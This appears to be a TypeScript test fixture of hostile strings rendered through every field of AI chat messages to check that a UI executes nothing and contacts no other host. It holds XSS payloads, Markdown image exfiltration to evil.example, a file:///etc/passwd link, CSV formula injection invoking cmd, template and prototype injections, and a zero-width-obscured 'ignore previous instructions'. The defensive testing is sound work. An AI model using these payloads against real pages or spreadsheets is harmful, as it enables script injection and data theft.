// Hostile prompts and answers. Whatever of them a page shows is text: the tests
// of this folder render them all, and journeys in a browser send them through
// Pitot and look that nothing of them runs (it would set `pwned`) and nothing is
// asked of another host.

import type { Message } from '~/api/types';

export interface Hostile {
  name: string;
  text: string;
}

const run = 'window.pwned=1';

export const hostile: readonly Hostile[] = [
  // Markup
  { name: 'script tag', text: `<script>${run}</script>` },
  { name: 'script tag with noise', text: `<ScRiPt\n/src="https://evil.example/x.js">${run}</sCrIpT >` },
  { name: 'broken script tags', text: `<<script>script>${run}<</script>/script>` },
  { name: 'unclosed script', text: `<script>${run}//` },
  { name: 'script that leaves an attribute', text: `"><script>${run}</script><a title="` },
  { name: 'script that leaves a comment', text: `--><!-- --!><script>${run}</script>` },
  { name: 'script that leaves a text field', text: `</textarea></title></style></noscript><script>${run}</script>` },
  { name: 'image with an event handler', text: `<img src=x onerror=${run}>` },
  { name: 'image without blanks', text: `<img/src="x"/onerror=${run}>` },
  { name: 'image from elsewhere', text: '<img src="https://evil.example/pixel.png?who=me">' },
  { name: 'event handlers', text: `<body onload=${run}><details open ontoggle=${run}>x</details><input autofocus onfocus=${run}><video><source onerror=${run}></video><marquee onstart=${run}>` },
  { name: 'svg', text: `<svg onload=${run}><script>${run}</script><animate onbegin=${run} attributeName=x dur=1s></svg>` },
  { name: 'svg with a foreign object', text: `<svg><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${run}"></iframe></foreignObject></svg>` },
  { name: 'math', text: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">` },
  { name: 'frames and plugins', text: `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><object data="javascript:${run}"></object><embed src="javascript:${run}">` },
  { name: 'form', text: `<form action="javascript:${run}"><button formaction="javascript:${run}">x</button></form>` },
  { name: 'base and meta', text: `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:${run}"><link rel=stylesheet href="https://evil.example/x.css">` },
  { name: 'style', text: `<style>@import 'https://evil.example/x.css';body{background:url(https://evil.example/)}</style><div style="background:url(javascript:${run});position:fixed;inset:0">x</div>` },
  { name: 'template and shadow root', text: `<template shadowrootmode=open><script>${run}</script></template><slot onslotchange=${run}>` },
  { name: 'mutation by the parser', text: `<noscript><p title="</noscript><img src=x onerror=${run}>">` },
  { name: 'entities', text: `&lt;script&gt;${run}&lt;/script&gt; &#60;img src=x onerror=${run}&#62; &#x3c;script&#x3e;` },
  { name: 'null and control characters', text: `<scr\u0000ipt>${run}</scr\u0000ipt><img src=x o\u0000nerror=${run}>\u0007\u001b[2J\u001b]0;x\u0007` },
  { name: 'CDATA and processing instruction', text: `<![CDATA[<script>${run}</script>]]><?xml-stylesheet href="javascript:${run}"?>` },
  // Links
  { name: 'javascript link', text: `[click](javascript:${run})` },
  { name: 'javascript link in other letters', text: `[a](JaVaScRiPt:${run}) [b](java\tscript:${run}) [c](&#106;avascript:${run}) [d](javascript&colon;${run}) [e](\u0001javascript:${run})` },
  { name: 'javascript link by reference', text: `[click][x]\n\n[x]: javascript:${run} "title"` },
  { name: 'data link', text: `[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)` },
  { name: 'vbscript, file and blob links', text: '[a](vbscript:msgbox) [b](file:///etc/passwd) [c](blob:https://x/1) [d](view-source:javascript:1)' },
  { name: 'autolink', text: `<javascript:${run}> <data:text/html,<script>${run}</script>> <https://ok.example/">` },
  { name: 'link without a scheme', text: '[a](//evil.example/x) [b](\\\\evil.example\\x) [c](/\\evil.example)' },
  { name: 'link that leaves its attribute', text: `[a](https://ok.example/"onmouseover="${run}) [b](<https://ok.example/' onclick='${run}>) [c](https://ok.example "x" onclick="${run}")` },
  { name: 'link with a false text', text: '[https://bank.example](https://evil.example/login)' },
  // Markdown
  { name: 'image from elsewhere in Markdown', text: '![secret](https://evil.example/collect?data=SECRET) ![x][y]\n\n[y]: https://evil.example/y.png' },
  { name: 'image of script in Markdown', text: `![x](javascript:${run}) ![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) ![x" onerror="${run}](x)` },
  { name: 'markup in Markdown', text: `# <img src=x onerror=${run}>\n\n- <script>${run}</script>\n\n| a | <svg onload=${run}> |\n|---|---|\n| <b onclick=${run}>x</b> | y |\n\n> <iframe src=javascript:${run}>` },
  { name: 'code that leaves its block', text: '```html\n</code></pre><script>' + run + '</script>\n```\n`</code><img src=x onerror=' + run + '>`' },
  { name: 'code with a language of markup', text: '```"><script>' + run + '</script>\nx\n```\n~~~x onload=' + run + '\ny\n~~~' },
  { name: 'footnote and task list', text: `- [x] <img src=x onerror=${run}>\n\ntext[^1]\n\n[^1]: <script>${run}</script> [a](javascript:${run})` },
  { name: 'unclosed everything', text: '**[![`<a href="' + '([{<'.repeat(40) },
  // Templates
  { name: 'templates', text: '{{constructor.constructor("' + run + '")()}} ${' + run + '} #{' + run + '} <%= ' + run + ' %> {%raw%} [[' + run + ']] $' + '{{7*7}} {{$t(x)}} {{count}}' },
  { name: 'interpolation of the dictionary', text: '$t(common:ok) {{value}} {{- value}} %s %d {0}' },
  { name: 'prototype', text: '{"__proto__":{"pwned":1},"constructor":{"prototype":{"pwned":1}},"toString":"x","dangerouslySetInnerHTML":{"__html":"<img src=x onerror=' + run + '>"},"$$typeof":"Symbol(react.element)"}' },
  { name: 'JSON of markup', text: `{"a":"</script><script>${run}</script>","<img src=x onerror=${run}>":["javascript:${run}"]}` },
  // Characters
  { name: 'direction overrides', text: 'access \u202e\u2066level\u2069 \u202dnoitcennoc\u202c \u2067evil\u2069 \u200fשלום\u200e' },
  { name: 'zero-width and tag characters', text: 'ig\u200bnore pre\u2060vious \ufeffinstructions \u{e0001}\u{e0068}\u{e0069}\u{e007f} soft\u00adhyphen' },
  { name: 'combining marks', text: 'Z' + '\u0335\u0317\u0339\u034d\u0355'.repeat(300) },
  { name: 'lone surrogates', text: 'a\ud800b\udfffc' },
  { name: 'terminal and CSV', text: '=HYPERLINK("https://evil.example","x")\t@SUM(1)\r\n+cmd|\'/c calc\'!A0' },
  // Size
  { name: 'deep quotes', text: '>'.repeat(5_000) + ' x' },
  { name: 'deep lists', text: Array.from({ length: 400 }, (_, i) => ' '.repeat(i * 2) + '- x').join('\n') },
  { name: 'deep brackets', text: '['.repeat(20_000) + 'x' + ']'.repeat(20_000) },
  { name: 'deep emphasis', text: '*_'.repeat(10_000) + 'x' },
  { name: 'deep JSON', text: '['.repeat(5_000) + ']'.repeat(5_000) },
  { name: 'a long word', text: 'W'.repeat(100_000) },
  { name: 'many lines', text: 'line\n'.repeat(20_000) },
];

/** The texts in every place that a message has. */
export function hostileMessages(text: string): Message[] {
  return [
    { role: text.slice(0, 60), name: text.slice(0, 200), finish_reason: text.slice(0, 60), parts: [{ type: 'text', content: text }] },
    { role: 'assistant', parts: [{ type: 'reasoning', content: text }, { type: 'refusal', content: text }, { type: 'tool_call', id: text.slice(0, 100), name: text.slice(0, 100), arguments: text }] },
    { role: 'tool', parts: [{ type: 'tool_call_response', id: text.slice(0, 100), response: text }, { type: 'tool_call_response', id: 'other', name: text.slice(0, 100), response: { a: text, [text.slice(0, 100)]: [text] } }] },
    { role: 'user', parts: [{ type: 'uri', uri: text, mime_type: text.slice(0, 60), modality: text.slice(0, 20) }, { type: 'uri', uri: `data:image/svg+xml,${text}`, modality: 'image' }, { type: 'blob', mime_type: 'image/svg+xml', data: 'PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+', modality: 'image' }, { type: 'file', file_id: text.slice(0, 200), sha256: text.slice(0, 64), mime_type: 'text/html' }] },
    { role: 'user', parts: [{ type: 'uri', uri: 'javascript:window.pwned=1' }, { type: 'uri', uri: 'https://evil.example/x.png', modality: 'image' }, { type: 'other', name: text.slice(0, 100), content: text, response: { text } }] },
  ];
}
